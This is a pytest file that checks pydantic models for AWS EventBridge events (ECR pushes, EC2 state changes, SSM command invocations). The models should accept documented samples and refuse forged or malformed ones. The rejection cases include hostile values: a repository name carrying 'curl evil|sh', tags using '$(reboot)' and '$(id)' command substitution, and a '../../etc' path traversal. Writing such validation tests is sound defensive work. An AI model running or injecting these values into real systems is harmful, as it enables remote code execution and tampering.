"""Event models accept AWS's documented shapes and refuse malformed or forged ones."""

from __future__ import annotations

import copy

import pytest
from prefetcher.events import CommandInvocationEvent, EcrImageActionEvent, InstanceStateEvent
from pydantic import ValidationError

from tests.helpers import load_event


@pytest.mark.parametrize(
    ("name", "model"),
    [
        ("ecr-push-tagged.json", EcrImageActionEvent),
        ("ecr-push-untagged-child.json", EcrImageActionEvent),
        ("ecr-delete.json", EcrImageActionEvent),
        ("ec2-running.json", InstanceStateEvent),
        ("ec2-terminated.json", InstanceStateEvent),
        ("ssm-invocation-pending.json", CommandInvocationEvent),
        ("ssm-invocation-inprogress.json", CommandInvocationEvent),
        ("ssm-invocation-success.json", CommandInvocationEvent),
        ("ssm-invocation-failed.json", CommandInvocationEvent),
        ("ssm-invocation-timedout.json", CommandInvocationEvent),
        ("ssm-invocation-cancelled.json", CommandInvocationEvent),
    ],
)
def test_every_sample_event_parses(name, model):
    event = model.model_validate(load_event(name))
    assert event.time.tzinfo is not None


def test_the_ec2_sample_has_no_version_and_still_parses():
    raw = load_event("ec2-running.json")
    assert "version" not in raw
    assert InstanceStateEvent.model_validate(raw).detail.state == "running"


def test_the_push_event_names_the_pinned_image_in_the_accounts_registry():
    image = EcrImageActionEvent.model_validate(load_event("ecr-push-tagged.json")).image
    assert image.pinned.startswith("123456789012.dkr.ecr.us-east-1.amazonaws.com/ml/trainer@sha256:")
    assert image.tag == "v1.4.0"


def test_the_ssm_instance_comes_from_detail_not_resources():
    raw = load_event("ssm-invocation-success.json")
    raw["resources"] = ["arn:aws:ec2:us-east-1:123456789012:instance/i-abcd1111"]
    assert CommandInvocationEvent.model_validate(raw).detail.instance_id == "i-0a1b2c3d4e5f60001"


def _with(raw, path, value):
    changed = copy.deepcopy(raw)
    target = changed
    for key in path[:-1]:
        target = target[key]
    if value is KeyError:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return changed


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("source",), "my.app"),  # forged source
        (("detail-type",), "ECR Image Scan"),
        (("account",), "12345"),
        (("detail", "repository-name"), "ml/trainer; curl evil|sh"),
        (("detail", "repository-name"), "../../etc"),
        (("detail", "image-digest"), "sha256:deadbeef"),
        (("detail", "image-digest"), KeyError),
        (("detail", "image-tag"), "v1$(reboot)"),
        (("detail", "image-tag"), "x" * 10_000),
        (("detail",), "not an object"),
        (("time",), "yesterday"),
    ],
)
def test_malformed_or_forged_push_events_are_refused(path, value):
    with pytest.raises(ValidationError):
        EcrImageActionEvent.model_validate(_with(load_event("ecr-push-tagged.json"), path, value))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("detail", "status"), "Exploded"),
        (("detail", "instance-id"), "i-$(id)"),
        (("detail", "command-id"), "not-a-uuid"),
        (("detail", "requested-date-time"), KeyError),
    ],
)
def test_malformed_status_events_are_refused(path, value):
    with pytest.raises(ValidationError):
        CommandInvocationEvent.model_validate(_with(load_event("ssm-invocation-success.json"), path, value))
